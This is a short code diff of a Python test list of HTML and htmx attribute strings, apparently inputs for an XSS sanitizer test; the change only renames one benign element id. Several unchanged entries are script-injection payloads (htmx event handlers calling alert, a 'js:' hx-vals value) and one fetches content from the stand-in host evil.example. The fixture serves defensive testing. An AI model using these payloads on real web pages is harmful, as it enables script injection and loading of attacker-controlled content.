@@ -88,7 +88,7 @@ ATTRIBUTES = (
     "<div hx-on::after-settle=alert(57)>",
     "<div hx-vals='js:{x: alert(58)}' hx-post=/orders/ hx-trigger=load>",
     "<div data-hx-get=//evil.example/data hx-trigger=revealed>",
-    "<div hx-swap-oob=true id=ok-toast>",
+    "<div hx-swap-oob=true id=ok-said>",
     "<div id=ok-results hx-swap-oob=delete>",
     "<p id=ok-dialog-body>",
 )
